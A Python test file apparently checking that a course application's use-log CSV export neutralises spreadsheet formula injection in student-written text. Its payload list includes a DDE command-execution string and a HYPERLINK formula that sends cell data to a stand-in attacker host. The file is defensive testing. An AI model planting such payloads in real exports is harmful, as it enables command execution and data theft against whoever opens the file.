"""The use log, opened in a spreadsheet by an instructor: what students wrote stays text."""

import csv
import io
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from accounts.text import trimmed
from rooms.actions import uselog
from rooms.api.export import csv_safe
from rooms.models import UseLog
from tests.rooms.cast import in_thread

FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20"
ATTACKS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\uff1d1+1",
    " =1+1",
    "'=1+1",
    "'' =1+1",
    '"=1+1',
    '",=1+1,"',
    '";=1+1;"',
    "hello;=1+1",
    "hello; =1+1;",
    "hello;=cmd|'/c calc'!A0;",
    "hello\t=1+1",
    "hello\n=1+1",
    "hello\r=1+1",
    "hello\r\n=1+1",
    'hello\n"=1+1"',
    "hello,=1+1",
    "a;b\n;\n;=1",
]


def cells(text: str, separators: str) -> list[str]:
    """The cells that a spreadsheet finds with these separators.

    Quotes count at the beginning of a cell; within quotes two of them are one of the text.
    """
    found, cell, quoted, at_start = [], "", False, True
    characters = iter([*text, ""])
    character = next(characters)
    while character:
        following = next(characters)
        if quoted and character == following == '"':
            cell += '"'
            following = next(characters)
        elif quoted and character == '"':
            quoted = False
        elif not quoted and at_start and character == '"':
            quoted = True
        elif not quoted and character in separators + "\r\n":
            found.append(cell)
            cell, at_start, character = "", True, following
            continue
        else:
            cell += character
        at_start, character = False, following
    return [*found, cell]


def formulas(text: str) -> list[str]:
    """Return the cells that a spreadsheet of some country would take for formulas."""
    return [
        cell
        for separators in (",", ";", "\t", ",;", ",;\t", ";\t")
        for cell in cells(text, separators)
        if cell.strip().startswith(tuple(FORMULA))
    ]


def test_this_finds_formulas():
    """`formulas` finds formulas, so the tests below can fail."""
    for text in ("=1", "a,=1", 'a,"=1"', "a;=1", "a\n=1", 'x,"b;=1"'):
        assert formulas(text)
    for text in ("a=1", "a, 'x;=1'", "'=1"):
        assert formulas(text) == [] or ";" in text


def exact(cell: str) -> str:
    """Return the text as it was written, restored in the way that docs/http.md describes."""
    beginning, between = r"(?:\A|(?<=[;\t\r\n]))", r"(?:['\"]|[^\S;\t\r\n])*"
    return re.sub(rf"{beginning}'(?={between}[{re.escape(FORMULA)}])", "", cell)


@given(st.text(alphabet=st.sampled_from(f"{FORMULA}'\" ;,\t\r\na1\xa0|"), max_size=12))
def test_any_text(text):
    row = io.StringIO()
    csv.writer(row).writerow(["2026-01-01", "ada", "sendmessage", csv_safe(text), "", "physics"])
    assert formulas(row.getvalue()) == []
    assert exact(csv_safe(text)) == text
    assert next(csv.reader(io.StringIO(row.getvalue(), newline="")))[3] == csv_safe(text)


@pytest.mark.parametrize("names", ["real", "pseudonyms"])
async def test_what_students_wrote(cast, visit, names):
    """All texts of students that get into the log, such as messages, titles and rationales."""
    ada = await cast.chat(cast.ada)
    visitor = visit()
    room = str(cast.open_room(cast.ada, cast.bea).id)
    for attack in ATTACKS:
        await ada.post("new_message", room=cast.room, text=attack)
        await ada.message(trimmed(attack))
        path = f"/api/rooms/{room}/messages/"
        await visitor.send("POST", path, body={"text": attack}, token=cast.ada.token)
    for attack in ATTACKS[:8]:
        body = {"course": cast.course.slug, "title": attack, "topic": attack}
        answer = await visitor.send("POST", "/api/rooms/", body=body, token=cast.ada.token)
        assert answer.status == 201, answer.text
        path = f"/api/rooms/{answer.body['room']}/"
        body = {"topic": f"{attack} again"}
        assert (await visitor.send("PATCH", path, body=body, token=cast.ada.token)).status == 200
    rows = [
        uselog.row(sid=attack, event="join", act=attack, course_id=cast.course.slug, div_id=attack)
        for attack in ATTACKS
    ]
    await in_thread(uselog.record, rows)
    path = f"/api/courses/{cast.course.slug}/uselog/?names={names}&as="
    answer = await visitor.get(path + "csv", token=cast.ines.token)
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Disposition"].startswith("attachment; ")
    assert formulas(answer.text) == []
    table = list(csv.DictReader(io.StringIO(answer.text.removeprefix("\ufeff"), newline="")))
    lines = (await visitor.get(path + "jsonl", token=cast.ines.token)).text.splitlines()
    assert [{key: exact(value) for key, value in row.items()} for row in table] == [
        json.loads(line) for line in lines
    ]
    # JSON Lines has what was written, exactly.
    acts = [json.loads(line)["act"] for line in lines]
    stored = UseLog.objects.filter(course_id=cast.course.slug).order_by("timestamp", "pk")
    if names == "real":
        assert acts == [row.act for row in stored]
    for attack in ATTACKS:
        assert f"to:*:{trimmed(attack)}" in acts
        assert attack in acts
